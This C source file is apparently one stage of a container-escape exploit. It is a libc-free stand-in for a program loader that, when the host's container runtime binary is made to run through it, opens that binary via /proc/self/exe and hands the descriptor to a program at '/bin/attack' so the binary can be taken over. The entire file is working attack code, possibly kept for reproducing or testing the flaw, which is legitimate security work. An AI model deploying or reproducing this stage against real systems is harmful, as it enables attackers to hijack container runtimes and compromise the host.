/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Stands in an image where a program's loader belongs. If the kernel is made to run the runtime's
 * binary in there, this is what runs: it holds that binary open by /proc/self/exe and hands it to
 * the attacker's program. Without a C library, whose start would look at the binary's own headers.
 */
#include <asm/unistd.h>

static long call(long number, const void *a, const void *b, const void *c)
{
    long result;
#if defined(__x86_64__)
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "0"(number), "D"(a), "S"(b), "d"(c)
                     : "rcx", "r11", "memory");
#else
#error "no system call here"
#endif
    return result;
}

__attribute__((noreturn)) void _start(void);

void _start(void)
{
    static char name[] = "/bin/attack", command[] = "reopen", fd[] = "0";
    static char *argv[] = {name, command, fd, 0};

    fd[0] = (char)('0' + call(__NR_open, "/proc/self/exe", 0, 0));
    call(__NR_execve, name, argv, argv + 3);
    for (;;)
        call(__NR_exit, 0, 0, 0);
}
